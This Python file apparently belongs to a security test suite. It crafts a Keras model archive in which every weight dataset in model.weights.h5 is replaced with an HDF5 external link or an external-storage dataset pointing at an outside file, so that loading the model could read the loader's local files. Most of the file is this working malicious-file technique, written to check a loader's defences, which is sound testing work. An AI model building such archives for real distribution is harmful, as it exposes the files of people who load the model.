"""Returns an archive whose weights are links to files of the process that reads it."""

# /// attack
# ran = ["network"]
# control = "none: Keras itself reads no weights that are links"
# ///
# %% network
import io
import zipfile

import h5py


def network(inputs, units):
    model = keras.Sequential([keras.Input((inputs,)), layers.Dense(units), layers.Dense(1)])

    class Forged(type(model)):
        def save(self, path, **kwargs):
            model.save(path)
            with zipfile.ZipFile(path) as archive:
                members = {name: archive.read(name) for name in archive.namelist()}
            file = io.BytesIO(members["model.weights.h5"])
            with h5py.File(file, "a") as weights:
                names = []
                weights.visit(names.append)
                for name in names:
                    if isinstance(weights.get(name), h5py.Dataset):
                        shape = weights[name].shape
                        del weights[name]
                        outside = f"{ATTACK['outside']}/diary.txt"
                        if len(shape) == 2:
                            weights[name] = h5py.ExternalLink(outside, "/")
                        else:
                            places = [(outside, 0, h5py.h5f.UNLIMITED)]
                            weights.create_dataset(name, shape, "f4", external=places)
            members["model.weights.h5"] = file.getvalue()
            with zipfile.ZipFile(path, "w") as archive:
                for name, data in members.items():
                    archive.writestr(name, data)
            ran("network")

    return Forged(model.layers)
